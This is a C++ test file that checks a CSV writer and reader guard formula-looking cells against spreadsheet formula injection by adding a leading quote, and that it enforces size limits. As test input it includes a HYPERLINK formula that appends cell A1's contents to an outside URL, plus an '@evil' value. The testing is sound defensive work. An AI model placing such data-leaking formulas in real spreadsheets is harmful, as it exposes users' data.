// CSV cells that look like formulas (mandat/csv.hpp, docs/spreadsheets.md "Formula-looking
// cells"): the writer puts a quote in front, the reader takes exactly that quote away, and the
// writer refuses a file its reader would refuse.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <string>
#include <string_view>
#include <vector>

#include "mandat/csv.hpp"
#include "mandat/mandat.hpp"

namespace fs = std::filesystem;

namespace {

// A table of one column "c" whose rows hold `cells`, one a row, each row with a second cell
// "x" (so that no row is empty).
mandat::spreadsheet_table one_column(const std::vector<std::string>& cells) {
    mandat::spreadsheet_table t;
    t.name = "t.csv";
    t.header = {"c", "x"};
    std::size_t line = 2;
    for (const auto& c : cells) t.rows.push_back({line++, {c, "x"}});
    return t;
}

std::vector<std::string> first_cells(const mandat::spreadsheet_table& t) {
    std::vector<std::string> out;
    for (const auto& r : t.rows) out.push_back(r.cells.at(0));
    return out;
}

// The cells read back from what the writer wrote.
std::vector<std::string> round_trip(const std::vector<std::string>& cells) {
    return first_cells(mandat::parse_csv_table(mandat::format_csv_table(one_column(cells)), "t.csv"));
}

const std::vector<std::string> tricky = {"=1+1", "'",   "''=", "-",  "+47 123", "@",  "",  "'abc", "=HYPERLINK(\"http://x\")",
                                         "\tx",  "\rx", "''",  "'=", "a=b",     "-5", "x'"};

}  // namespace

TEST_CASE("csv: the writer puts a quote before each formula-looking cell and before a leading quote", "[csv][cells]") {
    CHECK(mandat::format_csv_table(one_column({"=1+1", "+47 123", "-", "@", "\tx", "\rx", "'", "''=", "'abc"})) ==
          "\"c\",\"x\"\r\n"
          "\"'=1+1\",\"x\"\r\n"
          "\"'+47 123\",\"x\"\r\n"
          "\"'-\",\"x\"\r\n"
          "\"'@\",\"x\"\r\n"
          "\"'\tx\",\"x\"\r\n"
          "\"'\rx\",\"x\"\r\n"
          "\"''\",\"x\"\r\n"
          "\"'''=\",\"x\"\r\n"
          "\"''abc\",\"x\"\r\n");
    // Cells that start otherwise are written as before; a quote or an '=' later in a cell is data.
    CHECK(mandat::format_csv_table(one_column({"", "a=b", "x'", "p-ks1", " =1"})) ==
          "\"c\",\"x\"\r\n\"\",\"x\"\r\n\"a=b\",\"x\"\r\n\"x'\",\"x\"\r\n\"p-ks1\",\"x\"\r\n\" =1\",\"x\"\r\n");
    // The header is a row like the others.
    mandat::spreadsheet_table t;
    t.name = "t.csv";
    t.header = {"=h", "'"};
    CHECK(mandat::format_csv_table(t) == "\"'=h\",\"''\"\r\n");
}

TEST_CASE("csv: the reader removes one quote only before a formula start or a quote", "[csv][cells]") {
    const auto t = mandat::parse_csv_table(
        "c,x\n'=1+1,x\n'+47,x\n'-,x\n'@,x\n\"'\tx\",x\n\"'\rx\",x\n'',x\n'''=,x\n'abc,x\n',x\na'=,x\n' =,x\n", "t.csv");
    CHECK(first_cells(t) ==
          std::vector<std::string>{"=1+1", "+47", "-", "@", "\tx", "\rx", "'", "''=", "'abc", "'", "a'=", "' ="});
    CHECK(mandat::parse_csv_table("'=h,''\n", "t.csv").header == std::vector<std::string>{"=h", "'"});
}

TEST_CASE("csv: every cell comes back from the writer through the reader", "[csv][cells]") {
    CHECK(round_trip(tricky) == tricky);
    // Exhaustively: every text of up to three characters over the characters that matter.
    const std::string alphabet = "'=+-@\t\ra\",";
    std::vector<std::string> all{""};
    for (std::size_t from = 0, n = 0; n < 3; ++n) {
        const std::size_t to = all.size();
        for (std::size_t i = from; i < to; ++i)
            for (char c : alphabet) all.push_back(all[i] + c);
        from = to;
    }
    REQUIRE(all.size() == 1 + 10 + 100 + 1000);
    CHECK(round_trip(all) == all);
    // ... each written with a quote in front exactly when it starts with one of "=+-@\t\r'".
    std::string expected = "\"c\",\"x\"\r\n";
    std::size_t guarded = 0;
    for (const auto& c : all) {
        expected += '"';
        if (!c.empty() && std::string_view("=+-@\t\r'").find(c.front()) != std::string_view::npos) {
            expected += '\'';
            ++guarded;
        }
        for (char ch : c) expected += ch == '"' ? std::string("\"\"") : std::string(1, ch);
        expected += "\",\"x\"\r\n";
    }
    CHECK(guarded == 7 * (1 + 10 + 100));
    CHECK(mandat::format_csv_table(one_column(all)) == expected);
}

TEST_CASE("csv: a roster's formula-looking texts are written guarded and read back equal", "[csv][cells]") {
    mandat::roster r;
    mandat::person p;
    p.id = "p1";
    p.name = "=HYPERLINK(\"http://example.org/?\"&A1,\"klikk\")";
    p.email = "@evil";
    p.employer = "'";
    p.extra = mandat::extra_members_from_json(nlohmann::json{{"phone", "+47 123"}, {"n", -5}, {"q", "''="}});
    r.persons.push_back(p);
    const auto dir = fs::temp_directory_path() / "mandat-test-csv-cells";
    fs::remove_all(dir);
    fs::create_directories(dir);
    mandat::write_csv_roster(r, dir.string());
    std::ifstream in(dir / "persons.csv", std::ios::binary);
    const std::string persons{std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
    CHECK(persons ==
          "\"id\",\"name\",\"email\",\"gender\",\"employer\",\"n\",\"phone\",\"q\"\r\n"
          "\"p1\",\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"klikk\"\")\",\"'@evil\",\"\",\"''\",\"'-5\",\"'+47 "
          "123\",\"'''=\"\r\n");
    CHECK(mandat::read_csv_roster(dir.string()) == r);
    fs::remove_all(dir);
}

TEST_CASE("csv: the writer refuses a file longer than its reader's limit, naming the line and column", "[csv][cells]") {
    const auto t = one_column({"abc", "defgh"});
    const std::string whole = mandat::format_csv_table(t);
    REQUIRE(whole.size() == 33);
    CHECK(mandat::format_csv_table(t, 33) == whole);
    CHECK_THROWS_WITH(mandat::format_csv_table(t, 32),
                      "t.csv line 3, x: the file would be longer than the limit of 32 bytes of a document read "
                      "(mandat/limits.hpp), which its reader would refuse");
    CHECK_THROWS_WITH(mandat::format_csv_table(t, 12),
                      "t.csv line 2, c: the file would be longer than the limit of 12 bytes of a document read "
                      "(mandat/limits.hpp), which its reader would refuse");
    try {
        (void)mandat::format_csv_table(t, 12);
    } catch (const mandat::spreadsheet_error& e) {
        CHECK(e.id() == "spreadsheet.unrepresentable");
    }
}

TEST_CASE("csv: a meeting's attendees are held to the limit of the document's attendee list", "[csv][cells]") {
    const std::size_t limit = mandat::field_limits::list_items;
    std::string persons = "id,name\n";
    std::string attendees;
    for (std::size_t i = 0; i <= limit; ++i) {
        persons += "p" + std::to_string(i) + ",N\n";
        if (i > 0) attendees += ';';
        attendees += "p" + std::to_string(i);
    }
    auto tables_with = [&](const std::string& cell) {
        mandat::roster_tables t;
        t.persons = mandat::parse_csv_table(persons, "persons.csv");
        t.memberships = mandat::parse_csv_table("person_id,organization_id,on_behalf_of_id,role,start_date\n", "memberships.csv");
        t.meetings = mandat::parse_csv_table("organization_id,date,attendee_ids\nsg,2022-01-01," + cell + "\n", "meetings.csv");
        return t;
    };
    const std::string at_limit = attendees.substr(0, attendees.rfind(';'));
    CHECK(mandat::roster_from_tables(tables_with(at_limit)).meetings.at(0).attendee_ids.size() == limit);
    CHECK_THROWS_WITH(mandat::roster_from_tables(tables_with(attendees)),
                      "meetings.csv line 2, attendee_ids: more than 100000 attendees, the limit of a meeting");
}
